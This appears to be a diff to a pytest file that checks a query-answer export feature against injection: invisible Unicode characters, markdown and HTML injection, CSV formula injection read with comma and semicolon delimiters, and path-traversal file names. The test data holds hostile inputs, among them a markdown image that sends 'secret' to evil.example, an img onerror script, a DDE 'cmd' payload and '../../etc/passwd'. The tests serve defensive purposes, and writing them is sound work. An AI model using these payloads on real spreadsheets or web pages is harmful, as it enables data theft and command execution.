@@ -27,6 +27,9 @@ TRICKS = [
     "a\u200bb",
     "\u2028line",
     "\ufeffa",
+    "a\u3164b",
+    "a\u2800\u115f\u1160\uffa0b",
+    "a\ufe0f\U000e0101\u034f\u180bb",
     "[click](http://evil.example)",
     "![x](http://evil.example/?q=secret)",
     "<img src=http://evil.example/x onerror=alert(1)>",
@@ -42,7 +45,8 @@ TRICKS = [
     "~~~",
     "<!-- hidden -->",
 ]
-FORMULAS = ['=HYPERLINK("http://evil.example")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "|x", "\t=1", "\r=1"]
+FORMULAS = ['=HYPERLINK("http://evil.example")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "|x", "\t=1", "\r=1",
+            "\uff1d1+1", "\uff20SUM(A1)", "a;=1+1", "a; @SUM(A1)", " =1+1", "\u3164=1"]  # fmt: skip
 
 
 def _answer(text):
@@ -54,12 +58,12 @@ def test_nothing_in_data_moves_the_terminal(trick):
     shown = in_words(_answer(f"x{trick}"), "en")
     unseen = {letter for letter in shown if unicodedata.category(letter)[0] in "C" and letter != "\n"}
     assert unseen == set()
-    assert not {"\u2028", "\u2029"} & set(shown)
+    assert not {"\u2028", "\u2029", *"\u034f\u115f\u1160\u180b\u2800\u3164\ufe0f\uffa0\U000e0101"} & set(shown)
 
 
 @pytest.mark.parametrize("trick", TRICKS)
 def test_nothing_in_data_becomes_markdown(trick, tmp_path):
-    report, _ = export("q", _answer(f"x{trick}"), tmp_path)
+    report, _ = export("q", _answer(f"x{trick}"), tmp_path, "en")
     page = MarkdownIt("commonmark").enable("table").render(report.read_text())
     assert not any(tag in page for tag in ("<a ", "<img", "<script", "<!--", "<h2", "<code>x"))
     assert page.count("<td>") == 2
@@ -67,17 +71,24 @@ def test_nothing_in_data_becomes_markdown(trick, tmp_path):
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_nothing_in_data_becomes_a_formula(formula, tmp_path):
-    _, rows = export("q", _answer(formula), tmp_path)
-    with open(rows, newline="") as file:
-        cells = [cell for row in csv.reader(file) for cell in row]
-    assert not any(cell.startswith(("=", "+", "-", "@", "|", "\t", "\r")) for cell in cells)
+    _, rows = export("q", _answer(formula), tmp_path, "en")
+    # As an English spreadsheet cuts it, and as a French one does.
+    for delimiter in ",;":
+        with open(rows, newline="") as file:
+            cells = [cell.strip() for row in csv.reader(file, delimiter=delimiter) for cell in row]
+        assert not any(cell.startswith(tuple("=+-@|\uff1d\uff20\t\r")) for cell in cells)
+
+
+def test_a_head_is_no_wider_than_a_cell():
+    shown = in_words(Answer("x", "select 1", ["a" * 9_000, "b"], [[1, 2]], 1), "en")
+    assert max(map(len, shown.splitlines())) < 120
 
 
 @pytest.mark.parametrize(
     "question", ["../../etc/passwd", "/etc/cron.d/x", "a\x00b", "\u202e", "", "." * 300, "CON", "-rf"]
 )
 def test_an_export_stays_in_its_folder(question, tmp_path):
-    files = export(question, _answer("a"), tmp_path / "exports")
+    files = export(question, _answer("a"), tmp_path / "exports", "fr")
     assert {file.parent for file in files} == {tmp_path / "exports"}
     assert [file.name for file in tmp_path.iterdir()] == ["exports"]
 
